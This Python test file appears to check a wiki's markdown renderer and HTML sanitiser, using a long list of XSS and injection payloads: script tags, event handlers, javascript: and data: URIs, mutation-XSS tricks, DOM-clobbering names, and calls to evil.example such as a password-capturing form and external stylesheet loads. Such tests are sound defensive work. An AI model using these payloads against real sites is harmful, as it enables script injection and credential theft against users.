"""Nothing that an author writes runs, loads, tracks, or takes a name of the application."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.text.harmless import assert_harmless
from wiki.text.markdown.context import RenderContext
from wiki.text.markdown.markup import render
from wiki.text.markdown.sanitize import TooDeepHtmlError, sanitise
from wiki.text.own_texts import in_words, sentence_of

HERE = RenderContext("eng", "team/guide", title="Guide")

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()>'>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img srcset="https://evil.example/x 1x" src="/eng/-/files/a.png">',
    '<img src="/\\evil.example/-/files/x">',
    '<img src="/eng/../-/logout">',
    '<img src="/-/logout">',
    '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="x" target="_blank" ping="https://evil.example" download>x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,hi)",
    "[x](\u0001javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x](a.png"onerror="alert(1))',
    '[x](a.md"onmouseover="alert(1))',
    '[x](a.md "t\\"onmouseover=alert(1) x=\\"")',
    '[x](a.md "t&quot;onmouseover=&quot;alert(1)")',
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<style>@import 'https://evil.example/x';</style>",
    "<link rel=stylesheet href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<video src='javascript:alert(1)' poster='https://evil.example/x' autoplay></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<input type=image src=https://evil.example/x>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<html><body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<div id=login class='btn-primary wl-0' name=cookie data-x=1 hx-get=/-/logout>x</div>",
    "<a name=getElementById id=currentScript>x</a>",
    "<img name=cookie id=cookie src=a.png>",
    "<div role=alert aria-label='Sign in again' tabindex=5 contenteditable>x</div>",
    "# constructor\n\n# __proto__\n\n# document {#body}",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    '[[x"><script>alert(1)</script>]]',
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    '@ada"><script>alert(1)</script>',
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! "onclick=alert(1)\n    x',
    "| <script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | `|` |",
    '<https://evil.example/"onmouseover=alert(1)>',
    "http://evil.example/'onmouseover='alert(1)",
    "<a href='https://x.example' onclick=alert(1)>a<a href=javascript:alert(2)>b",
    "<p><table><p><form><p></table><script>alert(1)</script>",
    "</div></main></body><script>alert(1)</script>",
    "<b><i></b></i><u><p></u><script>alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_gets_through(vector):
    for source in (vector, f"text {vector} text", f"- {vector}", f"<div>\n{vector}\n</div>"):
        assert_harmless(render(source, HERE).html)
    assert_harmless(sanitise(vector))


PIECES = st.sampled_from(
    [
        *VECTORS,
        *("<div>", "</div>", "<p>", "<table>", "<td>", "</table>", "<a href='x.md'>", "</a>"),
        *("<svg>", "<math>", "<mtext>", "<style>", "<!--", "-->", "<![CDATA[", "]]>", "<template>"),
        *("<select>", "<option>", "<noscript>", "<title>", "<b>", "<b id=x>", "<li>", "<h1>", "<"),
        *("\n\n", "\n", "    ", "> ", "- ", "1. ", "# ", "|", "|-|-|", "```", "`", "*", "**", "_"),
        *("[", "]", "(", ")", "![", "](", "[[", "]]", "@ada", "[^1]", "[^1]: ", ": ", "!!! note\n"),
        *("[TOC]", "~~", "\\", "&amp;", "&#x3c;", '"', "'", "é", "日本", "\u202e", "\x00", "\r\n"),
        *("{#id}", "https://h.example/", "www.h.example", "a@b.example", "- [x] ", "> [!NOTE]\n"),
        *("&#2;table-of&#31;", "&#31;", "&#3;"),
    ]
)
SOURCES = st.lists(PIECES | st.text(max_size=8), max_size=25).map("".join)


@given(SOURCES)
def test_whatever_is_written_renders_to_something_harmless(source):
    rendering = render(source, HERE)
    assert not sentence_of(rendering.source_shown).startswith("This page can’t")
    assert_harmless(in_words(rendering.html))


@given(SOURCES)
def test_cleaning_a_page_again_changes_nothing_more(source):
    html = render(source, HERE).html
    assert sanitise(html) == html


@given(SOURCES)
def test_any_html_comes_out_harmless_however_often_it_is_read(source):
    html = source
    for _ in range(3):
        html = sanitise(html)
        assert_harmless(html)


@given(SOURCES)
def test_every_listed_link_can_be_found_in_the_page(source):
    rendering = render(source, HERE)
    for link in rendering.links:
        assert link.kind in ("page", "file", "external", "mention", "anchor", "site", "broken")
    assert [link.ordinal for link in rendering.links] == list(range(len(rendering.links)))


def test_names_that_authors_give_cannot_be_names_of_the_application():
    html = render('<div id="main">a</div>\n\n<a name="Login">b</a>\n\n## search\n', HERE).html
    assert 'id="sec-main"' in html
    assert 'id="sec-login"' in html
    assert 'id="sec-search"' in html
    assert 'href="#sec-main"' in render("[a](#main)", HERE).html


def test_a_script_is_shown_only_where_it_was_written_as_text():
    assert (
        render("Use the `<script>` or <script> tag", HERE).text
        == "Use the <script> or <script> tag"
    )
    assert render("<script>\nalert(1)\n</script>\n\nAfter", HERE).text == "After"


def test_what_is_embedded_becomes_a_link():
    html = in_words(render("<iframe src='https://video.example/1'></iframe>", HERE).html)
    assert "<iframe" not in html
    assert 'href="https://video.example/1"' in html
    assert "Embedded from video.example" in html


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 300,
        "<b>" * 300,
        "<div></b>" * 300,
        "<ul><li>" * 200,
        "<x>" * 300,
        "<DIV a='>'" * 300,
    ],
)
def test_html_that_nests_too_deep_is_refused_before_it_is_cleaned(html):
    with pytest.raises(TooDeepHtmlError):
        sanitise(html)


@pytest.mark.parametrize(
    "piece", ["<p>x", "<li>x", "<tr><td>x", "<br>", "<div></div>", "<dt>x<dd>y"]
)
def test_old_html_without_end_tags_is_not_deep(piece):
    assert "x" in sanitise("<p>x" + piece * 2000)
